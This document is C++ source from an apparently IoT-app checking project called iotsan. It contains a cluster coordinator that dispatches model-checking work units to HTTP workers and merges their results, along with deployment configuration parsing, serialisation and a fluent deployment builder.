  if (!request.extra_sources.empty()) {
    json::Object sources;
    for (const auto& [name, source] : request.extra_sources) {
      sources[name] = source;
    }
    doc["appSources"] = std::move(sources);
  }
  if (!request.extra_properties.empty()) {
    doc["properties"] = PropertiesJson(request.extra_properties);
  }
  json::Object options = BaseOptionsJson(request.options);
  json::Array group;
  for (std::size_t index : unit.group_apps) {
    group.push_back(static_cast<std::int64_t>(index));
  }
  options["groupApps"] = std::move(group);
  if (unit.branch_modulus > 1) {
    options["branchModulus"] = static_cast<std::int64_t>(unit.branch_modulus);
    options["branchResidue"] = static_cast<std::int64_t>(unit.branch_residue);
  }
  if (unit.bitstate_seed != 0) {
    options["bitstateSeed"] = static_cast<std::int64_t>(unit.bitstate_seed);
  }
  doc["options"] = std::move(options);
  return json::Value(std::move(doc));
}

// ---- planning ----------------------------------------------------------------

std::vector<WorkUnit> PlanUnits(
    const std::vector<std::vector<std::size_t>>& groups,
    const ClusterOptions& options, const core::RequestOptions& request) {
  std::vector<WorkUnit> units;
  const bool lanes = request.bitstate && options.swarm_lanes > 1;
  const bool shards = !lanes && options.branch_split > 1;
  for (std::size_t g = 0; g < groups.size(); ++g) {
    if (lanes) {
      for (unsigned lane = 0; lane < options.swarm_lanes; ++lane) {
        WorkUnit unit;
        unit.kind = UnitKind::kSwarmLane;
        unit.group_index = g;
        unit.group_apps = groups[g];
        // Lane 0 keeps the historical family, so a 1-lane degenerate
        // plan is byte-identical to a plain bitstate run.
        unit.bitstate_seed = lane == 0 ? 0 : hash::SplitMix64(lane);
        units.push_back(std::move(unit));
      }
    } else if (shards) {
      for (unsigned residue = 0; residue < options.branch_split; ++residue) {
        WorkUnit unit;
        unit.kind = UnitKind::kBranchShard;
        unit.group_index = g;
        unit.group_apps = groups[g];
        unit.branch_modulus = options.branch_split;
        unit.branch_residue = residue;
        units.push_back(std::move(unit));
      }
    } else {
      WorkUnit unit;
      unit.group_index = g;
      unit.group_apps = groups[g];
      units.push_back(std::move(unit));
    }
  }
  return units;
}

checker::CheckResult MergeShardResults(
    UnitKind kind, std::vector<checker::CheckResult> results) {
  if (results.size() == 1) return std::move(results[0]);
  checker::CheckResult merged;
  merged.completed = true;
  for (std::size_t i = 0; i < results.size(); ++i) {
    checker::CheckResult& shard = results[i];
    merged.states_explored += shard.states_explored;
    merged.states_matched += shard.states_matched;
    merged.transitions += shard.transitions;
    merged.cascade_drains += shard.cascade_drains;
    merged.completed = merged.completed && shard.completed;
    merged.seconds += shard.seconds;
    merged.store_fill_ratio =
        std::max(merged.store_fill_ratio, shard.store_fill_ratio);
    merged.est_omission_probability = std::max(
        merged.est_omission_probability, shard.est_omission_probability);
    merged.store_entries += shard.store_entries;
    merged.store_memory_bytes =
        std::max(merged.store_memory_bytes, shard.store_memory_bytes);
    merged.store_bytes_per_state =
        std::max(merged.store_bytes_per_state, shard.store_bytes_per_state);
    merged.compress_pool_entries += shard.compress_pool_entries;
    merged.compress_pool_bytes =
        std::max(merged.compress_pool_bytes, shard.compress_pool_bytes);
    merged.compress_lookups += shard.compress_lookups;
    merged.compress_hits += shard.compress_hits;
    if (merged.depth_histogram.size() < shard.depth_histogram.size()) {
      merged.depth_histogram.resize(shard.depth_histogram.size(), 0);
    }
    for (std::size_t d = 0; d < shard.depth_histogram.size(); ++d) {
      merged.depth_histogram[d] += shard.depth_histogram[d];
    }
    for (checker::Violation& violation : shard.violations) {
      checker::Violation* existing = nullptr;
      for (checker::Violation& have : merged.violations) {
        if (have.property_id == violation.property_id) {
          existing = &have;
          break;
        }
      }
      if (existing == nullptr) {
        merged.violations.push_back(std::move(violation));
      } else {
        checker::MergeViolationInto(*existing, std::move(violation));
      }
    }
  }
  if (kind == UnitKind::kBranchShard && !merged.depth_histogram.empty()) {
    // Every shard's RunParallel accounted the shared initial state once;
    // a single run accounts it exactly once, so drop the duplicates.
    const std::uint64_t extra =
        static_cast<std::uint64_t>(results.size()) - 1;
    merged.states_explored -= std::min(merged.states_explored, extra);
    merged.depth_histogram[0] -=
        std::min(merged.depth_histogram[0], extra);
  }
  checker::CanonicalizeViolations(merged.violations);
  return merged;
}

// ---- coordinator -------------------------------------------------------------

Coordinator::Coordinator(ClusterOptions options)
    : options_(std::move(options)) {
  workers_.reserve(options_.workers.size());
  for (const WorkerSpec& spec : options_.workers) {
    WorkerState state;
    state.spec = spec;
    state.status.endpoint = spec.endpoint();
    workers_.push_back(std::move(state));
  }
}

std::size_t Coordinator::ProbeWorkers() {
  util::HttpClientConfig config;
  config.connect_timeout_ms = options_.connect_timeout_ms;
  config.read_timeout_ms = std::max(options_.connect_timeout_ms, 1000);
  std::size_t healthy = 0;
  for (WorkerState& worker : workers_) {
    bool up = false;
    std::string error;
    try {
      const util::HttpResponse response = util::HttpCall(
          worker.spec.host, worker.spec.port, "GET", "/v1/health", "", {},
          config);
      up = response.status == 200;
      if (!up) error = "health returned " + std::to_string(response.status);
    } catch (const util::HttpError& e) {
      error = e.what();
    }
    std::lock_guard<std::mutex> lock(mutex_);
    worker.status.healthy = up;
    if (!up) worker.status.last_error = error;
    if (up) ++healthy;
    if (auto* t = telemetry::Active()) ++t->cluster.health_probes;
  }
  if (auto* t = telemetry::Active()) {
    t->cluster.workers_healthy.store(healthy, std::memory_order_relaxed);
  }
  return healthy;
}

std::vector<WorkerStatus> Coordinator::WorkerRows() const {
  std::lock_guard<std::mutex> lock(mutex_);
  std::vector<WorkerStatus> out;
  out.reserve(workers_.size());
  for (const WorkerState& worker : workers_) {
    out.push_back(worker.status);
  }
  return out;
}

ClusterOutcome Coordinator::Check(const core::CheckRequest& request,
                                  const core::ServiceEnv& env) {
  if (auto* t = telemetry::Active()) ++t->cluster.checks;

  // The coordinator plans with the same decomposition a single node
  // uses; the report picks up rejections, scale stats, and the related
  // set count here, exactly like Sanitizer::Check would.
  core::Sanitizer sanitizer(request.deployment);
  for (const auto& [name, source] : request.extra_sources) {
    sanitizer.AddAppSource(name, source);
  }
  core::SanitizerOptions plan_options =
      core::MakeCheckOptions(request.options, env);
  plan_options.extra_properties = request.extra_properties;
  core::SanitizerReport report;
  const std::vector<std::vector<std::size_t>> groups =
      sanitizer.PlanGroups(plan_options, report);

  ClusterOutcome out;
  const std::size_t healthy = ProbeWorkers();
  if (healthy == 0) {
    if (!options_.allow_local_fallback) {
      throw Error("cluster: no reachable workers (probed " +
                  std::to_string(workers_.size()) +
                  ") and local fallback is disabled");
    }
    std::fprintf(stderr,
                 "cluster: WARNING: no reachable workers (probed %zu), "
                 "degrading to local execution\n",
                 workers_.size());
    if (auto* t = telemetry::Active()) ++t->cluster.local_fallback_checks;
    out.response = core::RunCheck(request, env);
    out.degraded_local = true;
    return out;
  }

  std::vector<WorkUnit> units =
      PlanUnits(groups, options_, request.options);
  if (auto* t = telemetry::Active()) {
    t->cluster.units_planned += units.size();
  }
  out.units_total = units.size();

  const Clock::time_point wall_start = Clock::now();

  struct UnitSlot {
    checker::CheckResult result;
    bool done = false;
    int dispatches = 0;
  };
  std::vector<UnitSlot> slots(units.size());

  // Shared dispatch state: a queue of unit indices, drained by one
  // thread per healthy worker.  A worker that exhausts its transport
  // retries is declared dead; its unit goes back on the queue for a
  // survivor (units_redispatched), and its thread exits.  Requests the
  // workers reject as malformed (4xx) poison the whole check — they
  // would fail identically everywhere.
  std::mutex work_mutex;
  std::condition_variable work_cv;
  std::deque<std::size_t> queue;
  for (std::size_t i = 0; i < units.size(); ++i) queue.push_back(i);
  std::size_t done_count = 0;
  std::size_t inflight = 0;
  std::size_t redispatched = 0;
  std::size_t live_workers = 0;
  std::string fatal_error;

  // Group-completion progress for /v1/status and SSE: emitted once per
  // group whose units have all finished, with monotonically advancing
  // groups_done.
  std::vector<std::size_t> group_pending(groups.size(), 0);
  for (const WorkUnit& unit : units) ++group_pending[unit.group_index];
  std::uint64_t groups_done = 0;
  std::uint64_t progress_states = 0;

  auto note_unit_done = [&](std::size_t index,
                            checker::CheckResult result) {
    // Caller holds work_mutex.
    slots[index].result = std::move(result);
    slots[index].done = true;
    ++done_count;
    if (auto* t = telemetry::Active()) ++t->cluster.units_completed;
    const std::size_t g = units[index].group_index;
    progress_states += slots[index].result.states_explored;
    if (--group_pending[g] == 0 && env.on_group_progress) {
      telemetry::GroupProgress progress;
      progress.groups_total = groups.size();
      progress.groups_done = ++groups_done;
      progress.states_explored = progress_states;
      progress.store_memory_bytes = slots[index].result.store_memory_bytes;
      progress.seconds = slots[index].result.seconds;
      env.on_group_progress(progress);
    }
  };

  auto worker_main = [&](std::size_t worker_index) {
    WorkerState& worker = workers_[worker_index];
    util::HttpClientConfig config;
    config.connect_timeout_ms = options_.connect_timeout_ms;
    config.read_timeout_ms = static_cast<int>(
        std::max(options_.unit_deadline_seconds, 1.0) * 1000.0);
    util::RetryPolicy policy;
    policy.max_attempts = options_.max_attempts;
    policy.base_delay_ms = options_.backoff_base_ms;
    policy.max_delay_ms = options_.backoff_max_ms;
    policy.jitter_seed =
        hash::SplitMix64(options_.jitter_seed ^ (worker_index + 1));

    for (;;) {
      std::size_t index;
      {
        std::unique_lock<std::mutex> lock(work_mutex);
        work_cv.wait(lock, [&] {
          return !queue.empty() || done_count == units.size() ||
                 !fatal_error.empty() ||
                 (queue.empty() && inflight == 0);
        });
        if (done_count == units.size() || !fatal_error.empty()) return;
        if (queue.empty()) return;  // leftovers for local fallback
        if (env.interrupt != nullptr &&
            env.interrupt->load(std::memory_order_relaxed)) {
          return;  // shutdown: stop pulling; leftovers run locally
        }
        index = queue.front();
        queue.pop_front();
        ++inflight;
        ++slots[index].dispatches;
        if (slots[index].dispatches > 1) {
          ++redispatched;
          if (auto* t = telemetry::Active()) {
            ++t->cluster.units_redispatched;
          }
        }
      }

      const std::string body =
          UnitRequestJson(request, units[index]).Dump(0);
      const Clock::time_point dispatch_start = Clock::now();
      bool ok = false;
      std::string error;
      bool request_fault = false;  // 4xx: retrying elsewhere is pointless
      try {
        if (auto* t = telemetry::Active()) ++t->cluster.units_dispatched;
        const util::HttpResponse response = util::HttpCallWithRetry(
            policy,
            [&] {
              return util::HttpCall(worker.spec.host, worker.spec.port,
                                    "POST", "/v1/check", body, {}, config);
            },
            [&](int, int, const std::string&) {
              std::lock_guard<std::mutex> lock(mutex_);
              ++worker.status.retries;
              if (auto* t = telemetry::Active()) ++t->cluster.retries;
            });
        if (response.status == 200) {
          const json::Value doc = json::Parse(response.body);
          checker::CheckResult result =
              CheckResultFromJson(doc.At("unit"));
          const double latency_ms =
              std::chrono::duration<double, std::milli>(Clock::now() -
                                                        dispatch_start)
                  .count();
          if (auto* t = telemetry::Active()) {
            t->cluster_hist.dispatch_latency_us.Record(
                static_cast<std::uint64_t>(latency_ms * 1000.0));
          }
          {
            std::lock_guard<std::mutex> lock(mutex_);
            ++worker.status.units_done;
            worker.status.last_latency_ms = latency_ms;
          }
          std::lock_guard<std::mutex> lock(work_mutex);
          note_unit_done(index, std::move(result));
          ok = true;
        } else if (response.status >= 400 && response.status < 500) {
          error = "worker rejected unit: HTTP " +
                  std::to_string(response.status) + " " + response.body;
          request_fault = true;
        } else {
          error = "worker failed unit: HTTP " +
                  std::to_string(response.status);
        }
      } catch (const Error& e) {
        error = e.what();
      }

      if (!ok) {
        {
          std::lock_guard<std::mutex> lock(mutex_);
          worker.status.healthy = false;
          ++worker.status.units_failed;
          worker.status.last_error = error;
        }
        if (auto* t = telemetry::Active()) ++t->cluster.worker_failures;
        std::lock_guard<std::mutex> lock(work_mutex);
        --inflight;
        if (request_fault) {
          fatal_error = error;
        } else {
          queue.push_front(index);  // a survivor picks it up
        }
        --live_workers;
        work_cv.notify_all();
        return;  // this worker is done for this check
      }
      std::lock_guard<std::mutex> lock(work_mutex);
      --inflight;
      work_cv.notify_all();
    }
  };

  std::vector<std::thread> threads;
  {
    std::lock_guard<std::mutex> lock(work_mutex);
    for (std::size_t w = 0; w < workers_.size(); ++w) {
      if (!workers_[w].status.healthy) continue;
      ++live_workers;
      threads.emplace_back(worker_main, w);
    }
  }
  for (std::thread& thread : threads) thread.join();

  if (!fatal_error.empty()) throw Error("cluster: " + fatal_error);

  // Units left behind by dead workers (or an empty fleet mid-check):
  // run them here so no work is ever lost.
  std::size_t local_units = 0;
  for (std::size_t i = 0; i < units.size(); ++i) {
    if (slots[i].done) continue;
    if (!options_.allow_local_fallback) {
      throw Error("cluster: every worker died and local fallback is "
                  "disabled (" +
                  std::to_string(units.size() - done_count) +
                  " units stranded)");
    }
    if (local_units++ == 0) {
      std::fprintf(stderr,
                   "cluster: WARNING: running %zu stranded unit(s) "
                   "locally after worker failures\n",
                   units.size() - done_count);
    }
    core::CheckRequest unit_request = request;
    unit_request.options.group_apps = units[i].group_apps;
    unit_request.options.branch_modulus = units[i].branch_modulus;
    unit_request.options.branch_residue = units[i].branch_residue;
    unit_request.options.bitstate_seed = units[i].bitstate_seed;
    checker::CheckResult result = core::RunCheckUnit(unit_request, env);
    if (auto* t = telemetry::Active()) ++t->cluster.units_local;
    std::lock_guard<std::mutex> lock(work_mutex);
    note_unit_done(i, std::move(result));
  }
  out.units_local = local_units;
  out.units_remote = units.size() - local_units;
  out.units_redispatched = redispatched;

  // Merge in plan order — byte-identical to the single-node loop.
  for (std::size_t g = 0; g < groups.size(); ++g) {
    std::vector<checker::CheckResult> parts;
    UnitKind kind = UnitKind::kGroup;
    for (std::size_t i = 0; i < units.size(); ++i) {
      if (units[i].group_index != g) continue;
      kind = units[i].kind;
      parts.push_back(std::move(slots[i].result));
    }
    if (parts.empty()) continue;
    core::MergeGroupResult(report, MergeShardResults(kind,
                                                     std::move(parts)));
  }
  // Per-unit seconds overlap across workers; report wall clock, like
  // the in-process parallel path.
  report.seconds = std::chrono::duration<double>(Clock::now() - wall_start)
                       .count();
  core::FinalizeReport(report);

  out.response.report = std::move(report);
  out.response.text =
      core::RenderCheckReport(request.deployment, out.response.report);
  out.response.exit_code =
      out.response.report.violations.empty() ? 0 : 1;
  return out;
}

}  // namespace iotsan::cluster
