#include "config/deployment.hpp"

#include <cstdio>

#include "devices/device_type.hpp"
#include "util/error.hpp"
#include "util/hash.hpp"

namespace iotsan::config {

const DeviceConfig* Deployment::FindDevice(const std::string& id) const {
  for (const DeviceConfig& d : devices) {
    if (d.id == id) return &d;
  }
  return nullptr;
}

std::vector<std::string> Deployment::DevicesWithRole(
    const std::string& role) const {
  std::vector<std::string> out;
  for (const DeviceConfig& d : devices) {
    for (const std::string& r : d.roles) {
      if (r == role) {
        out.push_back(d.id);
        break;
      }
    }
  }
  return out;
}

int Deployment::ModeIndex(const std::string& mode) const {
  for (std::size_t i = 0; i < modes.size(); ++i) {
    if (modes[i] == mode) return static_cast<int>(i);
  }
  return -1;
}

namespace {

Binding ParseBinding(const json::Value& v) {
  Binding binding;
  switch (v.type()) {
    case json::Type::kString:
      binding.text = v.AsString();
      break;
    case json::Type::kNumber:
      binding.number = v.AsNumber();
      break;
    case json::Type::kBool:
      binding.flag = v.AsBool();
      break;
    case json::Type::kArray:
      for (const json::Value& item : v.AsArray()) {
        binding.device_ids.push_back(item.AsString());
      }
      break;
    default:
      throw ConfigError("unsupported binding value: " + v.Dump());
  }
  return binding;
}

}  // namespace

Deployment ParseDeployment(const json::Value& doc) {
  Deployment out;
  out.name = doc.GetString("name", "unnamed system");
  out.contact_phone = doc.GetString("contactPhone", "");
  out.allow_network_interfaces = doc.GetBool("allowNetworkInterfaces", false);

  if (doc.Has("modes")) {
    out.modes.clear();
    for (const json::Value& m : doc.At("modes").AsArray()) {
      out.modes.push_back(m.AsString());
    }
    if (out.modes.empty()) {
      throw ConfigError("deployment '" + out.name + "': empty modes list");
    }
  }

  if (doc.Has("devices")) {
    for (const json::Value& d : doc.At("devices").AsArray()) {
      DeviceConfig device;
      device.id = d.GetString("id");
      device.type = d.GetString("type");
      if (device.id.empty() || device.type.empty()) {
        throw ConfigError("device entry needs both \"id\" and \"type\": " +
                          d.Dump());
      }
      if (devices::DeviceTypeRegistry::Instance().Find(device.type) ==
          nullptr) {
        throw ConfigError("device '" + device.id + "': unknown type '" +
                          device.type + "'");
      }
      if (out.FindDevice(device.id) != nullptr) {
        throw ConfigError("duplicate device id '" + device.id + "'");
      }
      if (d.Has("roles")) {
        for (const json::Value& r : d.At("roles").AsArray()) {
          device.roles.push_back(r.AsString());
        }
      }
      out.devices.push_back(std::move(device));
    }
  }

  if (doc.Has("apps")) {
    for (const json::Value& a : doc.At("apps").AsArray()) {
      AppConfig app;
      app.app = a.GetString("app");
      app.label = a.GetString("label", app.app);
      if (app.app.empty()) {
        throw ConfigError("app entry needs \"app\": " + a.Dump());
      }
      if (a.Has("inputs")) {
        for (const auto& [input_name, value] : a.At("inputs").AsObject()) {
          Binding binding = ParseBinding(value);
          for (const std::string& id : binding.device_ids) {
            if (out.FindDevice(id) == nullptr) {
              throw ConfigError("app '" + app.label + "' input '" +
                                input_name + "' binds unknown device '" + id +
                                "'");
            }
          }
          app.inputs.emplace(input_name, std::move(binding));
        }
      }
      out.apps.push_back(std::move(app));
    }
  }
  return out;
}

Deployment ParseDeploymentText(std::string_view text) {
  return ParseDeployment(json::Parse(text));
}

json::Value DeploymentToJson(const Deployment& deployment) {
  json::Object root;
  root["name"] = deployment.name;
  if (!deployment.contact_phone.empty()) {
    root["contactPhone"] = deployment.contact_phone;
  }
  root["allowNetworkInterfaces"] = deployment.allow_network_interfaces;

  json::Array modes;
  for (const std::string& m : deployment.modes) modes.emplace_back(m);
  root["modes"] = std::move(modes);

  json::Array devices;
  for (const DeviceConfig& d : deployment.devices) {
    json::Object device;
    device["id"] = d.id;
    device["type"] = d.type;
    if (!d.roles.empty()) {
      json::Array roles;
      for (const std::string& r : d.roles) roles.emplace_back(r);
      device["roles"] = std::move(roles);
    }
    devices.emplace_back(std::move(device));
  }
  root["devices"] = std::move(devices);

  json::Array apps;
  for (const AppConfig& a : deployment.apps) {
    json::Object app;
    app["app"] = a.app;
    if (a.label != a.app) app["label"] = a.label;
    json::Object inputs;
    for (const auto& [name, binding] : a.inputs) {
      if (binding.IsDeviceBinding()) {
        json::Array ids;
        for (const std::string& id : binding.device_ids) ids.emplace_back(id);
        inputs[name] = std::move(ids);
      } else if (binding.number.has_value()) {
        inputs[name] = *binding.number;
      } else if (binding.text.has_value()) {
        inputs[name] = *binding.text;
      } else if (binding.flag.has_value()) {
        inputs[name] = *binding.flag;
      }
    }
    app["inputs"] = std::move(inputs);
    apps.emplace_back(std::move(app));
  }
  root["apps"] = std::move(apps);
  return json::Value(std::move(root));
}

std::uint64_t DeploymentFingerprint(const Deployment& deployment) {
  // The canonical JSON form (std::map-ordered keys, compact dump) is
  // already deterministic, so hashing it yields a stable fingerprint.
  return hash::Fnv1a64(DeploymentToJson(deployment).Dump(0));
}

std::string DeploymentFingerprintHex(const Deployment& deployment) {
  char buf[20];
  std::snprintf(buf, sizeof(buf), "%016llx",
                static_cast<unsigned long long>(
                    DeploymentFingerprint(deployment)));
  return buf;
}

}  // namespace iotsan::config
