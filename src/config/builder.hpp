// Fluent builder for deployments (used by tests, benches, and examples).
#pragma once

#include <string>
#include <vector>

#include "config/deployment.hpp"

namespace iotsan::config {

class DeploymentBuilder;

/// Configures one installed app; obtained from DeploymentBuilder::App.
class AppBinder {
 public:
  AppBinder(DeploymentBuilder& builder, std::size_t index)
      : builder_(&builder), index_(index) {}

  /// Binds a capability input to one or more devices.
  AppBinder& Devices(const std::string& input,
                     std::vector<std::string> device_ids);
  AppBinder& Number(const std::string& input, double value);
  AppBinder& Text(const std::string& input, std::string value);
  AppBinder& Flag(const std::string& input, bool value);

 private:
  AppConfig& app();
  DeploymentBuilder* builder_;
  std::size_t index_;
};

class DeploymentBuilder {
 public:
  explicit DeploymentBuilder(std::string name);

  DeploymentBuilder& Modes(std::vector<std::string> modes);
  DeploymentBuilder& ContactPhone(std::string phone);
  DeploymentBuilder& AllowNetwork(bool allow);
  DeploymentBuilder& Device(std::string id, std::string type,
                            std::vector<std::string> roles = {});
  /// Adds an app instance; bind its inputs through the returned AppBinder.
  AppBinder App(std::string app_name, std::string label = "");

  Deployment Build() const { return deployment_; }

 private:
  friend class AppBinder;
  Deployment deployment_;
};

}  // namespace iotsan::config
