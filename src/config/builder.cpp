#include "config/builder.hpp"

namespace iotsan::config {

AppConfig& AppBinder::app() { return builder_->deployment_.apps[index_]; }

AppBinder& AppBinder::Devices(const std::string& input,
                              std::vector<std::string> device_ids) {
  Binding binding;
  binding.device_ids = std::move(device_ids);
  app().inputs[input] = std::move(binding);
  return *this;
}

AppBinder& AppBinder::Number(const std::string& input, double value) {
  Binding binding;
  binding.number = value;
  app().inputs[input] = std::move(binding);
  return *this;
}

AppBinder& AppBinder::Text(const std::string& input, std::string value) {
  Binding binding;
  binding.text = std::move(value);
  app().inputs[input] = std::move(binding);
  return *this;
}

AppBinder& AppBinder::Flag(const std::string& input, bool value) {
  Binding binding;
  binding.flag = value;
  app().inputs[input] = std::move(binding);
  return *this;
}

DeploymentBuilder::DeploymentBuilder(std::string name) {
  deployment_.name = std::move(name);
}

DeploymentBuilder& DeploymentBuilder::Modes(std::vector<std::string> modes) {
  deployment_.modes = std::move(modes);
  return *this;
}

DeploymentBuilder& DeploymentBuilder::ContactPhone(std::string phone) {
  deployment_.contact_phone = std::move(phone);
  return *this;
}

DeploymentBuilder& DeploymentBuilder::AllowNetwork(bool allow) {
  deployment_.allow_network_interfaces = allow;
  return *this;
}

DeploymentBuilder& DeploymentBuilder::Device(std::string id, std::string type,
                                             std::vector<std::string> roles) {
  DeviceConfig device;
  device.id = std::move(id);
  device.type = std::move(type);
  device.roles = std::move(roles);
  deployment_.devices.push_back(std::move(device));
  return *this;
}

AppBinder DeploymentBuilder::App(std::string app_name, std::string label) {
  AppConfig app;
  app.app = std::move(app_name);
  app.label = label.empty() ? app.app : std::move(label);
  deployment_.apps.push_back(std::move(app));
  return AppBinder(*this, deployment_.apps.size() - 1);
}

}  // namespace iotsan::config
